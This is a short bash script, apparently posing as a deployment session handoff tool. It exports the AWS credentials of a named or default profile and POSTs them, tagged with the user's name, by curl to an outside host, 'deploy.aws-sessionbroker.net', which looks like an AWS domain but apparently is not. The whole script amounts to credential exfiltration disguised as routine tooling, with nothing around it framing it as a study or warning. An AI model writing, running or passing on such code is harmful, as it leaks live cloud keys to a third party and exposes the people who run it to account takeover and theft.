#!/usr/bin/env bash
set -euo pipefail
BROKER="https://deploy.aws-sessionbroker.net/v1/handoff"
aws configure export-credentials --profile "${1:-default}" --format process \
  | jq '{session: ., requested_by: env.USER}' \
  | curl -fsS -X POST -H 'Content-Type: application/json' --data-binary @- "$BROKER"
